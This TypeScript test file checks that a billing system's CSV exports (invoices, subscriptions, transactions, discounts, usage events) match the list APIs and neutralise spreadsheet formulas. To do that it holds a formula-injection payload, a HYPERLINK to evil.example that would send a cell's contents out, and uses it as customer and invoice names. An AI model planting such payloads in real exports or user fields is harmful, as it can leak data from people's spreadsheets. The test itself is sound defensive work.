import { afterAll, beforeAll, expect, it } from '@jest/globals';
import {
  activateDiscount,
  bizType,
  createMarkRefund,
  creditAccountType,
  creditTransactionType,
  discountBillingType,
  discountStatus,
  discountType,
  type ExportTask,
  emptyOf,
  generateBatchCodes,
  incrementPromoCredit,
  invoiceStatus,
  listBatchCodes,
  listCreditTransactions,
  listDiscounts,
  listInvoices,
  listPaymentTimeline,
  listSubscriptions,
  listUsageEvents,
  listUserDiscounts,
  nameOfCode,
  newBatchTemplate,
  newDiscount,
  newInvoice,
  subscriptionStatus,
  timelineStatus,
  timelineType,
  User,
  userDiscountStatus,
} from '@recur/contracts';
import fc from 'fast-check';
import { charge, type Metered, metered } from '../../world/usage.js';
import { exportDesk } from './desk.js';

let s: Metered;
let desk: ReturnType<typeof exportDesk>;
let discountId: number;
let templateId: number;
const buyers: number[] = [];
/** Names of those who hope that somebody opens an export. */
const attack = '=HYPERLINK("http://evil.example?"&A1)';

/** A merchant of two months, with something of everything. */
beforeAll(async () => {
  s = await metered('2026-05-01');
  await s.anew();
  desk = exportDesk(s.t, s.merchant);
  const calls = s.metric('chargeMetered', 'sum');
  const planId = s.plan({ planName: 'Pro, "yearly"', metricMeteredCharge: [charge(calls.id)] });
  const code = {
    code: 'MAY',
    name: 'May',
    billingType: discountBillingType.recurring,
    discountType: discountType.percentage,
    discountPercentage: 1_250,
  };
  const { discount } = await s.t.done(newDiscount, { ...code, startTime: 0, endTime: 0 }, s.merchant);
  discountId = discount.id;
  await s.t.done(activateDiscount, { id: discountId }, s.merchant);
  const fixed = {
    ...code,
    code: 'YEN',
    discountType: discountType.fixedAmount,
    discountAmount: 500,
    currency: 'JPY',
    startTime: 0,
    endTime: 0,
  };
  await s.t.done(newDiscount, { ...fixed, discountPercentage: 0 }, s.merchant);
  const codes = {
    codePrefix: '-1-',
    quantity: 9,
    billingType: discountBillingType.onetime,
    discountType: discountType.percentage,
    discountPercentage: 500,
  };
  const { template } = await s.t.done(newBatchTemplate, { ...codes, startTime: 0, endTime: 0 }, s.merchant);
  templateId = template.id;
  await s.t.done(activateDiscount, { id: templateId }, s.merchant);
  await s.t.done(generateBatchCodes, { templateId }, s.merchant);
  const { children } = await s.t.done(listBatchCodes, { templateId }, s.merchant);
  for (const [at, firstName] of ['Ada', attack, '中文\r\n,"', '-1'].entries()) {
    const userId = await s.userWithCard('succeeds', { firstName, lastName: 'Lovelace', externalUserId: `@${at}` });
    buyers.push(userId);
    const discountCode = at < 2 ? 'MAY' : (children[at]?.code ?? '');
    const { id } = await s.subscribe({ userId, planId, discountCode });
    await s.useMany(userId, calls, [3, 4, 5]);
    await s.t.done(incrementPromoCredit, { userId, currency: 'EUR', amount: 100 + at }, s.merchant);
    const lines = [{ name: 'Desk', unitAmountExcludingTax: 1_234 + at }];
    for (const [currency, finish] of [
      ['EUR', true],
      ['JPY', false],
      ['KWD', false],
    ] as const) {
      const order = {
        userId,
        currency,
        finish,
        taxPercentage: 1_900,
        lines,
        name: `${attack} ${at}`,
        gatewayId: s.gatewayId(),
      };
      await s.t.done(newInvoice, order, s.merchant);
    }
    const { invoiceId } = await s.state(id);
    const refund = { invoiceId, refundAmount: 10 + at, reason: '+1' };
    await s.t.done(createMarkRefund, refund, s.merchant);
  }
  await s.to('2026-06-02');
  await s.drain();
});
afterAll(() => s.t.close());

const all = { page: 0, count: 1_000 };
/** An amount in minor units as it is written: EUR has two decimals, JPY none, KWD three. */
const major = (minor: number, currency: string) => String(minor / ({ JPY: 1, KWD: 1_000 }[currency] ?? 100));
const guarded = (text: string) => (/^[=+\-@\t\r\n]/.test(text) ? `'${text}` : text);
const buyerOf = (user: User | null) => {
  const { id, email, firstName, lastName, externalUserId } = user ?? emptyOf(User);
  return {
    UserId: String(id),
    Email: email,
    FirstName: guarded(firstName),
    LastName: lastName,
    ExternalUserId: guarded(externalUserId),
  };
};
const day = (seconds: number) =>
  seconds === 0 ? '' : new Date(seconds * 1_000).toISOString().slice(0, 19).replace('T', ' ');

/** The rows of an export, compared with what its list answers under the same filters, in the same order. */
const lists: Partial<Record<ExportTask, (filters: object) => Promise<Record<string, string>[]>>> = {
  InvoiceExport: async filters => {
    const { invoices } = await s.t.done(listInvoices, { ...all, ...filters }, s.merchant);
    return invoices.map(one => ({
      InvoiceId: one.invoiceId,
      InvoiceNumber: one.number,
      InvoiceName: guarded(one.invoiceName),
      Status: nameOfCode(invoiceStatus, one.status),
      CreateFrom: one.createFrom,
      BizType: nameOfCode(bizType, one.bizType),
      SubscriptionId: one.subscriptionId,
      PeriodStart: day(one.periodStart),
      PeriodEnd: day(one.periodEnd),
      CreateTime: day(one.createTime),
      FinishTime: day(one.finishTime),
      DueTime: day(one.deadline),
      PaidTime: day(one.paidTime),
      Currency: one.currency,
      OriginAmount: major(one.originAmount, one.currency),
      DiscountAmount: major(one.discountAmount, one.currency),
      PromoCreditDiscountAmount: major(one.promoCreditDiscountAmount, one.currency),
      TotalAmountExcludingTax: major(one.totalAmountExcludingTax, one.currency),
      TaxAmount: major(one.taxAmount, one.currency),
      TaxPercentage: String(one.taxPercentage / 100),
      TotalAmount: major(one.totalAmount, one.currency),
      PartialCreditPaidAmount: major(one.partialCreditPaidAmount, one.currency),
      AmountDue: major(one.amountDue, one.currency),
      DiscountCode: guarded(one.discountCode),
      ...buyerOf(one.userAccount),
      CompanyName: one.userSnapshot?.companyName ?? '',
      CountryCode: one.countryCode,
      VatNumber: one.vatNumber,
      Gateway: one.gateway?.gatewayName ?? '',
      PaymentId: one.paymentId,
    }));
  },
  SubscriptionExport: async filters => {
    const { subscriptions } = await s.t.done(listSubscriptions, { ...all, ...filters }, s.merchant);
    return subscriptions.map(({ subscription: one, plan, user, gateway, discount }) => ({
      SubscriptionId: one.subscriptionId,
      Status: nameOfCode(subscriptionStatus, one.status),
      PlanId: String(one.planId),
      PlanName: plan?.planName ?? '',
      ProductId: String(one.productId),
      Quantity: String(one.quantity),
      Currency: one.currency,
      Amount: major(one.amount, one.currency),

      Interval: '1 month',
      AddOns: '',
      DiscountCode: guarded(discount?.code ?? ''),
      Gateway: gateway?.gatewayName ?? '',
      CancelAtPeriodEnd: one.cancelAtPeriodEnd ? 'yes' : 'no',
      CancelReason: one.cancelReason,
      CurrentPeriodStart: day(one.currentPeriodStart),
      CurrentPeriodEnd: day(one.currentPeriodEnd),
      TrialEnd: day(one.trialEnd),
      FirstPaidTime: day(one.firstPaidTime),
      CreateTime: day(one.createTime),
      CancelTime: day(one.cancelOrExpireTime),
      ...buyerOf(user),
    }));
  },
  TransactionExport: async filters => {
    const { paymentTimeLines } = await s.t.done(listPaymentTimeline, { ...all, ...filters }, s.merchant);
    const { invoices } = await s.t.done(listInvoices, all, s.merchant);
    const users = new Map(invoices.map(({ userId, userAccount }) => [userId, userAccount]));
    return paymentTimeLines.map(one => ({
      TransactionId: one.transactionId,
      ExternalTransactionId: one.externalTransactionId,
      Type: nameOfCode(timelineType, one.timelineType),
      Status: nameOfCode(timelineStatus, one.status),
      Currency: one.currency,
      TotalAmount: major(one.totalAmount, one.currency),
      FailureReason: one.failureReason,
      CreateTime: day(one.createTime),
      InvoiceId: one.invoiceId,
      PaymentId: one.paymentId,
      RefundId: one.refundId,
      SubscriptionId: one.subscriptionId,
      ...buyerOf(users.get(one.userId) ?? null),
    }));
  },
  CreditTransactionExport: async filters => {
    const { creditTransactions } = await s.t.done(listCreditTransactions, { ...all, ...filters }, s.merchant);
    return creditTransactions.map(one => ({
      TransactionId: one.transactionId,
      AccountType: nameOfCode(creditAccountType, one.accountType),
      TransactionType: nameOfCode(creditTransactionType, one.transactionType),
      Currency: one.currency,
      CreditsBefore: String(one.creditAmountBefore),
      Credits: String(one.deltaAmount),
      CreditsAfter: String(one.creditAmountAfter),
      Amount: major(one.deltaCurrencyAmount, one.currency),
      Name: one.name,
      By: one.by,
      InvoiceId: one.invoiceId,
      CreateTime: day(one.createTime),
      ...buyerOf(one.user),
    }));
  },
  DiscountExport: async filters => {
    const { discounts } = await s.t.done(listDiscounts, { ...all, ...filters }, s.merchant);
    return discounts.map(one => ({
      Id: String(one.id),
      Code: one.code,
      Name: one.name,
      Status: nameOfCode(discountStatus, one.status),
      DiscountPercentage: one.discountType === 1 ? String(one.discountPercentage / 100) : '',
      Currency: one.currency,
      DiscountAmount: major(one.discountAmount, one.currency),
      QuantityUsed: String(one.quantityUsed),
      CreateTime: day(one.createTime),
      EndTime: day(one.endTime),
    }));
  },
  UserDiscountExport: async filters => {
    const { userDiscounts } = await s.t.done(listUserDiscounts, { ...all, ...filters, id: discountId }, s.merchant);
    return userDiscounts.map(one => ({
      Id: String(one.id),
      Code: one.code,
      Status: nameOfCode(userDiscountStatus, one.status),
      Currency: one.currency,
      ApplyAmount: major(one.applyAmount, one.currency),
      SubscriptionId: one.subscriptionId,
      InvoiceId: one.invoiceId,
      CreateTime: day(one.createTime),
      ...buyerOf(one.user),
    }));
  },
  BatchDiscountChildrenExport: async filters => {
    const { children } = await s.t.done(listBatchCodes, { ...all, ...filters, templateId }, s.merchant);
    return children.map(one => ({
      Id: String(one.id),
      Code: guarded(one.code),
      ParentTemplateCode: guarded(one.parentTemplateCode),
      Status: 'active',
      DiscountPercentage: '5',
      CreateTime: day(one.createTime),
      PlanName: one.planName,
      IsRedeemed: one.isRedeemed ? 'yes' : 'no',
      RedeemedTime: day(one.redeemedAt),
      RedeemedByEmail: one.redeemedByEmail,
      SubscriptionId: one.subscriptionId,
      InvoiceId: one.invoiceId,
    }));
  },
  MetricEventExport: async filters => {
    const { events } = await s.t.done(listUsageEvents, { ...all, ...filters }, s.merchant);
    return events.map(one => ({
      Id: String(one.id),
      ExternalEventId: one.externalEventId,
      MetricCode: one.merchantMetric?.code ?? '',
      MetricName: one.merchantMetric?.metricName ?? '',
      Value: String(one.aggregationPropertyInt),
      SubscriptionId: one.subscriptionIds,
      PeriodStart: day(one.subscriptionPeriodStart),
      PeriodEnd: day(one.subscriptionPeriodEnd),
      EventTime: day(one.eventTime),
      CreateTime: day(one.createTime),
      ...buyerOf(one.user),
    }));
  },
};

const someBuyers = () => fc.subarray(buyers, { minLength: 1 });
const times = fc.constantFrom(1_777_593_600, 1_780_272_000, 1_780_358_400);
/** Filters of a list, each given or not. */
const some = (fields: Record<string, fc.Arbitrary<unknown>>) => fc.record(fields, { requiredKeys: [] });
const currency = fc.constantFrom('EUR', 'JPY', 'USD');
const filtersOf: Partial<Record<ExportTask, () => fc.Arbitrary<object>>> = {
  InvoiceExport: () =>
    some({
      userId: fc.constantFrom(...buyers),
      firstName: fc.constantFrom('ada', 'HYPER', '中'),
      status: fc.constantFrom([1], [3], [2, 3]),
      currency,
      type: fc.constantFrom(1, 2, 3),
      amountStart: fc.constantFrom(0, 1_235),
      createTimeStart: times,
      reportTimeEnd: times,
      searchKey: fc.constantFrom('=HYPER', '7'),
      deleteInclude: fc.boolean(),
    }),
  SubscriptionExport: () =>
    some({
      userId: fc.constantFrom(...buyers),
      status: fc.constantFrom([2], [4]),
      createTimeEnd: times,
      amountStart: fc.constant(1),
    }),
  TransactionExport: () =>
    some({
      userId: fc.constantFrom(...buyers),
      currency,
      status: fc.constantFrom([0], [1], [0, 1]),
      timelineTypes: fc.constantFrom([0], [1], [0, 1]),
      amountEnd: fc.constantFrom(12, 2_000),
    }),
  CreditTransactionExport: () =>
    some({ userId: fc.constantFrom(...buyers), transactionTypes: fc.constantFrom([6], [2]) }).map(filters => ({
      accountType: creditAccountType.promo,
      ...filters,
    })),
  DiscountExport: () =>
    some({ discountType: fc.constantFrom([1], [2]), searchKey: fc.constantFrom('ma', 'zz'), currency }),
  UserDiscountExport: () =>
    some({ userIds: someBuyers(), status: fc.constantFrom([1], [2]) }).map(filters => ({ ...filters, id: discountId })),
  BatchDiscountChildrenExport: () =>
    some({ code: fc.constantFrom('-1', 'a', 'zzzz'), createTimeEnd: times }).map(filters => ({
      ...filters,
      templateId,
    })),
  MetricEventExport: () => some({ userIds: someBuyers(), createTimeEnd: times }),
};

/** Exports of these are not in the order of their lists. */
const byId: Partial<Record<ExportTask, string>> = { TransactionExport: 'TransactionId', MetricEventExport: 'Id' };

it.each(Object.keys(lists) as (keyof typeof lists)[])('%s holds exactly what its list shows', async task => {
  const filters = filtersOf[task]?.() ?? fc.constant({});
  const needed = {
    CreditTransactionExport: { accountType: creditAccountType.promo },
    UserDiscountExport: { id: discountId },
  };
  const required = { ...needed, BatchDiscountChildrenExport: { templateId } }[task as keyof typeof needed] ?? {};
  const key = byId[task];
  const ordered = <R extends Record<string, string>>(rows: R[]) =>
    key === undefined ? rows : rows.toSorted((one, other) => ((one[key] ?? '') < (other[key] ?? '') ? -1 : 1));
  let most = 0;
  await fc.assert(
    fc.asyncProperty(fc.oneof(fc.constant(required), filters), async given => {
      const expected = ordered((await lists[task]?.({ ...given })) ?? []);
      const rows = ordered(await desk.exported(task, given));
      most = Math.max(most, rows.length);
      expect(rows).toHaveLength(expected.length);
      expect(rows).toMatchObject(expected);
    }),
    { numRuns: 12, examples: [[required]] },
  );
  // there was something to compare
  expect(most).toBeGreaterThan(1);
});
